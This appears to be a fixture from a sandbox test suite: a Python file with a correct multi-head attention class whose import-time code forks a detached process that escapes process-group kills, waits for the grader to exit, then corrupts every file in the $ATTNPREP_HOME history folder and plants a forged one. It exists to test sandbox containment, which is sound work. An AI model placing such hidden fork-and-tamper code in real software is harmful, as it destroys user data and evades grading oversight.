# attnprep: mha
# expect: passed
"""A correct MHA that, at import, forks a grandchild which calls setsid, closes its descriptors but stdout and stderr, waits until the grading process is gone, then writes fake drills into $ATTNPREP_HOME."""

import os
import time

import math

import torch
import torch.nn as nn
import torch.nn.functional as F


def _note_pid():
    """tests/test_sandbox.py names a file here to learn which processes to look for afterwards."""
    where = os.environ.get("ATTNPREP_TEST_PIDS")
    if where:
        with open(where, "a", encoding="ascii") as f:
            f.write(f"{os.getpid()}\n")


def _vandalise(grader: int) -> None:
    """Wait until the grading process is gone, then write fake drills into the history folder."""
    give_up = time.monotonic() + 60
    while time.monotonic() < give_up:
        try:
            os.kill(grader, 0)
        except ProcessLookupError:
            break
        time.sleep(0.05)
    else:
        return
    time.sleep(0.2)
    home = os.environ.get("ATTNPREP_HOME")
    if home and os.path.isdir(home):
        for root, _, files in os.walk(home):
            for name in files:
                with open(os.path.join(root, name), "ab") as f:
                    f.write(b"a forged drill")
        with open(os.path.join(home, "forged.txt"), "w", encoding="ascii") as f:
            f.write("a forged drill\n")


_grader = os.getppid()
if os.fork() == 0:
    os.setsid()  # out of the child's session and process group: a killpg no longer reaches it
    os.closerange(3, 1 << 16)  # the reply pipe too: the check ends normally; stdout stays open
    try:
        _note_pid()
        _vandalise(_grader)
    finally:
        os._exit(0)


class MultiHeadAttention(nn.Module):
    def __init__(self, d_model, num_heads, dropout=0.0):
        super().__init__()
        assert d_model % num_heads == 0
        self.num_heads = num_heads
        self.head_dim = d_model // num_heads
        self.q_proj = nn.Linear(d_model, d_model)
        self.k_proj = nn.Linear(d_model, d_model)
        self.v_proj = nn.Linear(d_model, d_model)
        self.o_proj = nn.Linear(d_model, d_model)
        self.dropout = nn.Dropout(dropout)

    def forward(self, x, attention_mask=None, is_causal=False):
        B, T, C = x.shape
        H, D = self.num_heads, self.head_dim
        q = self.q_proj(x).view(B, T, H, D).transpose(1, 2)  # (B, H, T, D)
        k = self.k_proj(x).view(B, T, H, D).transpose(1, 2)  # (B, H, T, D)
        v = self.v_proj(x).view(B, T, H, D).transpose(1, 2)  # (B, H, T, D)

        scores = q @ k.transpose(-2, -1) / math.sqrt(D)  # (B, H, T, T)
        if is_causal:
            causal = torch.tril(torch.ones(T, T, dtype=torch.bool, device=x.device))
            scores = scores.masked_fill(~causal, float("-inf"))
        if attention_mask is not None:
            scores = scores.masked_fill(~attention_mask[:, None, None, :], float("-inf"))

        attn = self.dropout(scores.softmax(dim=-1))
        out = (attn @ v).transpose(1, 2).contiguous().view(B, T, C)  # (B, T, C)
        return self.o_proj(out)
